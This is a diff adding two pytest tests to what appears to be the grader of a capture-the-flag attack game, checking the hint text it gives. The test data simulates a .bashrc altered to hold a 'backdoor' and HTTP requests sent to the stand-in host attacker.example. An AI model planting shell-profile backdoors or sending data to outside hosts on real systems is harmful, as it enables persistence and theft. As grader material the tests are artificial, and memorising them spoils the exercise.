@@ -416,3 +416,19 @@ def test_the_capstone_checks_the_policy_before_it_says_the_static_backend_cannot
     good = load_policy(str(ROOT / "solutions" / "attacks" / f"level-{cap.number:02d}.policy.json"))
     with pytest.raises(BackendError):
         attack(cap, "pass", StaticBackend(), policy=good)
+
+
+def test_what_the_next_session_sent_without_the_flag_is_said_as_such() -> None:
+    lv = next(lv for lv in LEVELS if lv.next_session)
+    bashrc = "/home/user/.bashrc"
+    sent = fakewire.http(host="attacker.example", method="POST", path="/bashrc", body="hello")
+    ex = _ex(before={bashrc: sha256(b"x")}, after={bashrc: b"x\nbackdoor"},
+             next_session=NextSession(played=("login shell",), http=(sent,)))
+    got = judge(lv, ex, FLAG, world=WORLD)
+    assert got.hint == ("In the next session, your POST /bashrc reached attacker.example, which keeps what it is sent "
+                        "(5 bytes accepted), but the flag was not in it: what left was no secret.")
+
+
+def test_a_get_with_no_body_to_an_upload_host_is_said_to_have_sent_nothing() -> None:
+    got = judge(level(1), _ex(http=(fakewire.http(host="attacker.example", method="GET", path="/"),)), FLAG, world=WORLD)
+    assert got.hint == "Your GET / reached attacker.example, which keeps what it is sent, but it sent no body: nothing left."
